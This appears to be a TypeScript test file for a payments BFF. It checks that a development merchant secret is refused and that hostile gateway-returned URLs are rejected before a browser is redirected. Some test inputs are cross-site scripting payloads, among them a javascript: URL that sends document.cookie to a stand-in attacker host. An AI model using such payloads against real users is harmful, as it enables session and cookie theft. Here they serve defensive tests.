// What the BFF takes on trust from its surroundings: a URL the gateway hands back (a browser is
// sent to it), and a merchant secret everyone can read in this repository.
import { expect, test } from '../support/node-test.ts';
import type { BffApp } from '../../bff/app.ts';
import { developmentMerchantSecret } from '../../bff/http/auth/development-secret.ts';
import { ConfigError, loadConfig } from '../../bff/config.ts';
import { isNavigableUrl } from '../../bff/gateway/navigable-url.ts';
import { startBff } from '../../bff/server.ts';
import { sandboxGatewayEnv } from '../../sandbox/defaults.ts';
import { findOrder } from '../../bff/store/orders.ts';
import { merchantSecret, shopOrigin, startSystem, type System } from '../support/system.ts';
import { costaRicanBuyer } from '../fixtures/costa-rican-buyer.ts';
import { capturingLogger } from './webhooks-support.ts';

const realGateway = { ...sandboxGatewayEnv('https://gateway.example.com'), NODE_ENV: 'test' };

test('with a real gateway configured, the development merchant secret stops the start, naming MERCHANT_SECRET', async () => {
  let error: unknown;
  try {
    await startBff({ ...realGateway, MERCHANT_SECRET: developmentMerchantSecret, BFF_PORT: '0', DATABASE_URL: 'file::memory:', LOG_LEVEL: 'silent' });
  } catch (caught) {
    error = caught;
  }
  expect(error).toBeInstanceOf(ConfigError);
  expect((error as Error).message).toContain('MERCHANT_SECRET:');
  expect((error as Error).message).not.toContain(developmentMerchantSecret);
  // Missing (npm start fills in the development value only when none is set) is refused the same way.
  expect(() => loadConfig({ ...realGateway })).toThrow(/MERCHANT_SECRET:/);
  // A secret of the merchant's own is fine; so is the development one against the sandbox on loopback.
  expect(loadConfig({ ...realGateway, MERCHANT_SECRET: merchantSecret }).MERCHANT_SECRET).toEqual([merchantSecret]);
  expect(loadConfig({ ...sandboxGatewayEnv('http://127.0.0.1:4010'), MERCHANT_SECRET: developmentMerchantSecret }).MERCHANT_SECRET).toEqual([developmentMerchantSecret]);
  // Nor may the development value hide as the previous secret of a rotation.
  expect(() => loadConfig({ ...realGateway, MERCHANT_SECRET: `${merchantSecret},${developmentMerchantSecret}` })).toThrow(/MERCHANT_SECRET:/);
  // In production not even a loopback gateway (a tunnel to a real one?) takes the development secret.
  expect(() => loadConfig({ ...sandboxGatewayEnv('http://127.0.0.1:4010'), NODE_ENV: 'production', SESSION_SIGNING_KEY: 'k'.repeat(32), MERCHANT_SECRET: developmentMerchantSecret })).toThrow(/MERCHANT_SECRET:/);
});

test('which gateway URLs a browser may be sent to', () => {
  expect(isNavigableUrl('https://gateway.example.com/pay/abc', true)).toBe(true);
  expect(isNavigableUrl('http://127.0.0.1:4010/link/1', false)).toBe(true);
  expect(isNavigableUrl('http://127.0.0.1:4010/link/1', true)).toBe(false);
  expect(isNavigableUrl('http://gateway.example.com/pay', false)).toBe(false);
  expect(isNavigableUrl('javascript:alert(document.cookie)', false)).toBe(false);
  expect(isNavigableUrl('data:text/html,<script>alert(1)</script>', false)).toBe(false);
  expect(isNavigableUrl('//evil.example/pay', false)).toBe(false);
});

test.describe('a gateway whose link URLs are hostile', () => {
  // The sandbox's link answers' `url` replaced on the way back, as a compromised or misconfigured
  // gateway would answer.
  let hostileUrl: string | undefined;
  const tampering = async (request: Request, answer: Response): Promise<Response> => {
    if (!hostileUrl || !/createLinkPayment|getLinkPayment|processPayment/.test(request.url)) return answer;
    const text = (await answer.text()).replace(/"url":"[^"]*"/g, `"url":${JSON.stringify(hostileUrl)}`);
    return new Response(text, { status: answer.status, headers: answer.headers });
  };
  const logs = capturingLogger();
  let system: System;
  let app: BffApp;

  test.beforeAll(async () => {
    system = await startSystem({ logger: logs.logger, rewrite: tampering, env: { INBOX_WORKER: 'false' } });
    app = system.bff.app;
  });
  test.afterAll(async () => {
    await system?.close();
  });

  const merchantHeaders = { Authorization: `Bearer ${merchantSecret}`, 'Content-Type': 'application/json' };
  const createLink = (key: string) =>
    app.request('/v1/merchant/payment-links', { method: 'POST', headers: { ...merchantHeaders, 'Idempotency-Key': key }, body: JSON.stringify({ amount: '10.00', currency: 'USD' }) });

  test('a javascript: link URL is a 502 problem, logged, and never reaches the back office', async () => {
    hostileUrl = 'javascript:fetch("//evil.example/"+document.cookie)';
    const created = await createLink('hostile-1');
    expect(created.status).toBe(502);
    expect(created.headers.get('Content-Type')).toContain('application/problem+json');
    const problem = await created.text();
    expect(problem).not.toContain('javascript:');
    const listed = await app.request('/v1/merchant/payment-links', { headers: merchantHeaders });
    expect(listed.status).toBe(502);
    expect(await listed.text()).not.toContain('javascript:');
    expect(logs.text()).toContain('the gateway answered a URL we will not send a browser to');
    expect(logs.text()).not.toContain('evil.example');
  });

  test('plain http to another host is refused too; the sandbox URL on loopback is taken outside production', async () => {
    hostileUrl = 'http://gateway.example.com/link/1';
    expect((await createLink('hostile-2')).status).toBe(502);
    hostileUrl = undefined;
    const created = await createLink('fine-1');
    expect(created.status).toBe(201);
    expect((await created.json()).url).toMatch(/^http:\/\/127\.0\.0\.1:/);
  });

  test('a javascript: hosted-page URL from processPayment is a 502 to the widget; the attempt is never re-sent', async () => {
    const session = await app.request('/v1/merchant/checkout-sessions', {
      method: 'POST',
      headers: merchantHeaders,
      body: JSON.stringify({ amount: '10.00', currency: 'USD', returnUrl: `${shopOrigin}/thanks` }),
    });
    expect(session.status).toBe(201);
    const { sessionToken, orderNumber } = (await session.json()) as { sessionToken: string; orderNumber: string };
    hostileUrl = 'javascript:alert(document.cookie)';
    const checkout = () =>
      app.request('/v1/checkout', {
        method: 'POST',
        headers: { Authorization: `Bearer ${sessionToken}`, Origin: shopOrigin, 'Content-Type': 'application/json' },
        body: JSON.stringify({ billing: { ...costaRicanBuyer, address2: '' }, sameAsBilling: true }),
      });
    const refused = await checkout();
    expect(refused.status).toBe(502);
    expect(await refused.text()).not.toContain('javascript:');
    hostileUrl = undefined;
    // The page may exist at the gateway: the attempt waits for consult, never a second processPayment.
    expect((await checkout()).status).toBe(503);
    expect(await findOrder(app.services.store.db, orderNumber)).toMatchObject({ attempt_status: 'unknown', attempt_hosted_url: null });
  });
});
